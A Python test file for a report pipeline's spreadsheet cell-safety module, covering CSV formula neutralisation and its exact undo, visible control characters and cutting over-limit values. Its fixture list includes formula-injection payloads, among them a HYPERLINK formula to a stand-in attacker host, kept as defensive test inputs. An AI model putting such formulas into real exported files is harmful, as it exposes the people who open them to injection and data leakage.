"""Cell safety: formula neutralisation and its exact undo, visible control characters, cutting overlong values."""

from __future__ import annotations

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pipeline.report.cellsafety import (
    CELL_LIMIT,
    cut,
    cut_marker,
    escape_controls,
    needs_neutralising,
    neutralise_csv,
    restore_csv_cell,
    safe_csv_text,
    safe_frame,
    safe_xlsx_text,
    utf16_len,
)

RISKY = ['=HYPERLINK("http://evil.example/?x","click")', "+1", "-1+1", "@SUM(A1:A2)", "\t=1", "\r=1", "=1+2", "-A1"]
PLAIN_NEGATIVES = ["-12", "-3.5", "-0", "-.5", "-12."]
HARMLESS = ["abc", "12", "3.5", "00123", "a=b", " =1", "'quoted", "", "€ 12", "1-2", "x\t=1"]


@pytest.mark.parametrize("value", RISKY)
def test_risky_values_get_an_apostrophe_in_csv(value: str) -> None:
    assert safe_csv_text(value) == "'" + value
    assert restore_csv_cell(safe_csv_text(value)) == value


@pytest.mark.parametrize("value", PLAIN_NEGATIVES + HARMLESS)
def test_plain_numbers_and_harmless_text_are_left_alone(value: str) -> None:
    assert safe_csv_text(value) == value
    assert restore_csv_cell(value) == value


@pytest.mark.parametrize("value", ["-1e5", "-1,5", "-12 ", "--12", "-12-3", "-١٢"])
def test_only_plain_decimals_escape_neutralisation(value: str) -> None:
    assert needs_neutralising(value)


def test_existing_apostrophes_survive_the_round_trip() -> None:
    # A user value that already looks neutralised must come back as it was, not lose its apostrophe.
    assert neutralise_csv("'=x") == "''=x"
    assert restore_csv_cell("''=x") == "'=x"
    assert restore_csv_cell("'abc") == "'abc"
    assert restore_csv_cell("'-12") == "'-12"  # never produced by neutralising -12, so it is the user's text


def test_xlsx_text_keeps_risky_values_unchanged() -> None:
    for value in RISKY + PLAIN_NEGATIVES:
        assert safe_xlsx_text(value) == value


def test_control_characters_become_visible() -> None:
    assert escape_controls("a\x07b\x00c\x1bd\x7fe\x85f\ufffe") == (
        "a[U+0007]b[U+0000]c[U+001B]d[U+007F]e[U+0085]f[U+FFFE]"
    )
    assert escape_controls("tab\there\nnew line\r\nwindows") == "tab\there\nnew line\r\nwindows"
    # A value that starts with a control character is no longer risky once escaped.
    assert safe_csv_text("\x01=1") == "[U+0001]=1"


def test_overlong_values_are_cut_with_a_visible_marker() -> None:
    value = "x" * 40_000
    result = cut(value)
    assert len(result) <= CELL_LIMIT
    head, marker = result.split("…", 1)
    assert head == value[: len(head)]
    assert "…" + marker == cut_marker(40_000 - len(head))
    assert len(result) >= CELL_LIMIT - 2  # nothing is cut needlessly
    assert cut("y" * CELL_LIMIT) == "y" * CELL_LIMIT


def test_cut_counts_utf16_units_like_excel() -> None:
    value = "😀" * 20_000  # 40,000 UTF-16 units
    result = cut(value)
    assert utf16_len(result) <= CELL_LIMIT
    assert result.startswith("😀" * 1000) and "more characters]" in result


def test_csv_cut_leaves_room_for_the_apostrophe() -> None:
    result = safe_csv_text("=" + "y" * 40_000)
    assert result.startswith("'=") and len(result) <= CELL_LIMIT
    fits = "=" + "y" * (CELL_LIMIT - 2)  # with its apostrophe, exactly the limit
    assert safe_csv_text(fits) == "'" + fits
    one_more = fits + "z"
    assert len(safe_csv_text(one_more)) <= CELL_LIMIT and "more characters]" in safe_csv_text(one_more)
    assert safe_xlsx_text(one_more) == one_more  # no apostrophe in xlsx, so it fits there


texts = st.one_of(
    st.text(),
    st.text(alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "1", ".", "a", "\x07", "\x85"])),
    st.sampled_from(RISKY + PLAIN_NEGATIVES + HARMLESS),
)


@settings(max_examples=300, deadline=None)
@given(texts)
def test_restore_undoes_neutralise_exactly(value: str) -> None:
    assert restore_csv_cell(neutralise_csv(value)) == value


@settings(max_examples=300, deadline=None)
@given(texts)
def test_neutralised_csv_cells_never_start_risky(value: str) -> None:
    result = safe_csv_text(value)
    assert not result.startswith(("=", "+", "@", "\t", "\r")) or result == value == ""
    if result.startswith("-"):
        assert pl.Series([result]).cast(pl.Float64, strict=False)[0] is not None  # a plain number


@settings(max_examples=60, deadline=None)
@given(st.lists(st.one_of(st.none(), texts), max_size=20))
def test_vectorised_frame_matches_the_scalar_functions(values: list[str | None]) -> None:
    frame = pl.DataFrame({"a": values}, schema={"a": pl.String})
    csv_out = safe_frame(frame, csv=True).get_column("a").to_list()
    xlsx_out = safe_frame(frame, csv=False).get_column("a").to_list()
    assert csv_out == [None if v is None else safe_csv_text(v) for v in values]
    assert xlsx_out == [None if v is None else safe_xlsx_text(v) for v in values]


def test_vectorised_frame_cuts_and_casts() -> None:
    frame = pl.DataFrame({"long": ["=" + "z" * 40_000, "ok"], "num": [-5, 7]})
    out = safe_frame(frame, csv=True)
    assert out.schema == pl.Schema({"long": pl.String, "num": pl.String})
    assert out.get_column("long").to_list() == [safe_csv_text("=" + "z" * 40_000), "ok"]
    assert out.get_column("num").to_list() == ["-5", "7"]
